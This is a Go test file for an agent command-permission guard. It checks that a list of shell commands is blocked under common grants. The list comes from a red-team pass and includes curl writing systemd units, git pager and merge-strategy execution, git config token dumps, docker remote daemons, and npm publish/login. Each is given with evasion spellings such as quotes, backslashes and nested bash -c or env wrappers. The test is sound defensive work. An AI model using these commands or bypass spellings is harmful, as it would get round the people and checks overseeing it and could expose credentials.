package grants

import (
	"testing"

	"github.com/guard-dev/guard/classify"
)

// TestWholesaleGrantsSecondPass: the classes the second red-team pass left
// open under the common '*' grants, closed by a role in the spec table, an
// exec-table entry or a table of subcommands (never by a string): each in
// the spellings an agent could use (abbreviations, attached values,
// quotes, wrappers three deep), beside the everyday look-alikes that stay
// allowed.
func TestWholesaleGrantsSecondPass(t *testing.T) {
	if !classifyWorks() {
		t.Skip("classify is a stub")
	}
	s := Defaults()
	s.Composite = "each"
	for _, p := range commonGrants {
		s.Rules = append(s.Rules, Rule{Kind: Allow, Pattern: p, Layer: LayerProjectGrants})
	}
	// the hosts and packages the cases name: the tiers are not what this tests
	for _, h := range []string{"api.github.com", "github.com", "x"} {
		s.Tiers = append(s.Tiers, Rule{Kind: Allow, Pattern: h, Tier: TierHTTP, Layer: LayerProjectGrants})
	}
	for _, p := range []string{"npm:left-pad@1.3.0", "npm:@scope/x@1.2.3"} {
		s.Tiers = append(s.Tiers, Rule{Kind: Allow, Pattern: p, Tier: TierPackages, Layer: LayerProjectGrants})
	}
	cases := []struct {
		cmd   string
		allow bool
	}{
		// curl --create-dirs is a flag: the -o after it is still read
		{"curl --create-dirs -o ~/.config/systemd/user/x.service http://x", false},
		{"curl --create-dirs --output=$HOME/.local/bin/x http://x", false},
		{"curl -s https://api.github.com", true},
		// git -p/--paginate runs the configured pager
		{"git -p log", false},
		{"git --paginate log", false},
		{"git --pag log", false}, // git rejects it (its own options take no abbreviation); unresolved, it fails closed
		{"env git -p log", false},
		{"bash -c 'git -p log'", false},
		{"env timeout 5 bash -c \"git -p log\"", false},
		{"'git' -p log", false},
		{"g\\it --paginate log", false},
		{"echo log | xargs git -p", false},
		{"git log -p", true},
		{"git --no-pager log -p", true},
		// merge strategies other than git's own are programs
		{"git merge -s /tmp/x main", false},
		{"git merge --strategy=evil main", false},
		{"git merge --strat=evil main", false},
		{"git pull -sevil origin main", false},
		{"git cherry-pick --strategy /tmp/x abc", false},
		{"git merge -s ours main", true},
		{"git merge -X theirs main", true},
		{"git pull -s ort origin main", true},
		{"git rebase -s ort main", true},
		// filter-repo runs Python callbacks
		{"git filter-repo --force", false},
		{"git filter-repo --commit-callback 'x'", false},
		// config dumps print tokens
		{"git config --list --show-origin", false},
		{"git config -l", false},
		{"git config --lis", false},
		{"git var -l", false},
		{"git config --list --local", true}, // what cat .git/config prints
		{"git config user.name", true},
		// another repository on this machine
		{"git remote add x /tmp/evil", false},
		{"git remote add x /tmp/evil && git fetch x", false},
		{"git remote set-url origin ~/evil", false},
		{"git remote add -f x ../evil", false},
		{"git fetch /tmp/evil", false},
		{"git pull file:///tmp/evil main", false},
		{"git clone /tmp/evil y", false},
		{"git remote add origin https://github.com/a/b", true},
		{"git remote add up git@github.com:a/b.git", true},
		{"git remote -v", true},
		{"git fetch origin", true},
		{"git fetch .", true},
		{"git pull origin main", true},
		// submodule add writes its path; am --directory writes under it
		{"git submodule add https://x ~/.local/bin", false},
		{"git submodule add -b main https://x $HOME/.config/nvim", false},
		{"git submodule --quiet add https://x ../elsewhere", false},
		{"git submodule add https://x vendor/x", true},
		{"git submodule update --init --recursive", true},
		{"git submodule foreach 'rm -rf build'", false},
		{"git am --directory=$HOME x.patch", false},
		{"git am --dir ~/x x.patch", false},
		{"git am x.patch", true},
		{"git am --3way x.patch", true},
		// docker: another daemon, another context, build outputs elsewhere
		{"docker -H tcp://x:2375 run alpine", false},
		{"docker --host=ssh://x ps", false},
		{"docker --context evil ps", false},
		{"docker -c evil ps", false},
		{"docker context use evil", false},
		{"docker context create evil --docker host=tcp://x", false},
		{"docker buildx build --output type=local,dest=$HOME .", false},
		{"docker buildx build -o type=tar,dest=/etc/x.tar .", false},
		{"docker buildx build --output=$HOME/out .", false},
		{"docker builder build -o ~/x .", false},
		{"docker login", false},
		{"docker login -u bob ghcr.io", false},
		{"\"docker\" --context=evil ps", false},
		{"env docker -H unix:///tmp/d.sock ps", false},
		{"docker ps", true},
		{"docker context ls", true},
		{"docker buildx build -t x .", true},
		{"docker buildx build -o out .", true},
		{"docker buildx build --output type=registry -t x .", true},
		{"docker buildx ls", true},
		// npm: settings, links, account and publishing, packages from elsewhere
		{"npm set prefix=/usr", false},
		{"npm set script-shell=/tmp/x", false},
		{"npm config set script-shell /tmp/x", false},
		{"npm config edit", false},
		{"npm link", false},
		{"npm link x", false},
		{"npm ln x", false},
		{"npm install ~/.ssh", false},
		{"npm i ../other", false},
		{"npm add file:/tmp/x", false},
		{"npm install /tmp/x.tgz", false},
		{"npm install x --userconfig ~/.npmrc2", false},
		{"npm install --userconfig=$HOME/x x", false},
		{"npm publish", false},
		{"npm publish --access public", false},
		{"npm login", false},
		{"npm adduser", false},
		{"npm token create", false},
		{"npm unpublish x@1", false},
		{"'npm' publish", false},
		{"\\npm link", false},
		{"env npm login", false},
		{"bash -c 'npm set prefix=/usr'", false},
		{"sh -c \"env timeout 5 npm install ~/x\"", false},
		{"npm pack --pack-destination ~", false},
		{"npm pack", true},
		{"npm install left-pad@1.3.0", true},
		{"npm i @scope/x@1.2.3", true},
		{"npm install ./packages/x", true},
		{"npm install", true},
		{"npm ci", true},
		{"npm test", true},
		{"npm run build", true},
		{"npm config get registry", true},
		// make: MAKEFLAGS on the command line is make's options
		{"make MAKEFLAGS=--eval=x", false},
		{"make 'MAKEFLAGS=-f /tmp/x.mk'", false},
		{"make MFLAGS=-C/etc", false},
		{"make GNUMAKEFLAGS=--ev=x", false},
		{"make MAKEFLAGS=-j4", true},
		{"make MAKEFLAGS=ks", true},
		{"make test", true},
		{"make -j4 test", true},
		{"make -o x -W y", true}, // old-file and what-if change only what make believes
		// go test: linker and compiler flags beyond the safe ones, test binary outputs
		{"go test -ldflags='-I /tmp/ld.so' ./...", false},
		{"go test -ldflags=-extldflags=-B/tmp/x ./...", false},
		{"go test -ldflags '-linkmode=external' ./...", false},
		{"go test -ldflags=all=-r=/tmp/lib ./...", false},
		{"go test -gcflags=-cpuprofile=/tmp/x ./...", false},
		{"go test ./x -args -test.coverprofile=$HOME/.bashrc", false},
		{"go test ./x -args -test.gocoverdir=$HOME", false},
		{"go test -ldflags=-X ./...", true},
		{"go test -ldflags='-s -w -X main.version=1.0' ./...", true},
		{"go test -ldflags '-X main.v=1 -X main.c=abc' ./...", true},
		{"go test -gcflags=all=-N -l ./...", true},
		{"go test -gcflags='-m=2' ./...", true},
		{"go test ./x -args -test.v", true},
		{"go test -race ./...", true},
	}
	for _, tc := range cases {
		v := Decide(classify.Analyze(tc.cmd, testOptions()), s)
		if got := v.Decision == Allow; got != tc.allow {
			t.Errorf("%q under the common grants: got %v (%s: %s), want allow=%v", tc.cmd, v.Decision, v.Rule, v.Reason, tc.allow)
		}
	}
}
